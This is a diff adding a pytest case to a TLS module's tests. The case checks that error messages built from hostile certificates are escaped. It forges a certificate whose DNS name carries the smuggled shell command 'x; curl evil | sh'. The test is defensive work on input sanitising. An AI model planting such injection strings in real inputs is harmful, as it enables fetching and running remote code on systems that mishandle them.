@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import contextlib
+import datetime
 import shutil
 import socket
 import ssl
@@ -13,7 +14,9 @@ from typing import Any
 import pytest
 import trio
 import trustme
-from cryptography.hazmat.primitives import serialization
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
 
 from brokerd.core.ports import TransportError
 from brokerd.edge import tls
@@ -111,6 +114,12 @@ def test_hostile_certificates_are_cut_and_escaped() -> None:
     error = tls.UntrustedError(62, "Hostname mismatch")
     reason = tls.untrusted_reason(error, "idp.example", ssl.PEM_cert_to_DER_cert(pem), 0)
     assert len(reason) < 200
+    key = ec.generate_private_key(ec.SECP256R1())
+    subject, now = x509.Name([]), datetime.datetime.now(datetime.UTC)
+    made = x509.CertificateBuilder(subject, subject, key.public_key(), 1, now, now + datetime.timedelta(days=1))
+    odd = made.add_extension(x509.SubjectAlternativeName([x509.DNSName("x; curl evil | sh")]), critical=False)
+    der = odd.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
+    assert ";" not in tls.untrusted_reason(error, "idp.example", der, 0), "a remedy would follow it"
     assert tls.untrusted_reason(error, "idp.example", b"\x30rubbish", 0) == "the certificate is for another host"
     assert "\n" not in tls.untrusted_reason(tls.UntrustedError(99, "odd"), "idp.example", None, 0)
 
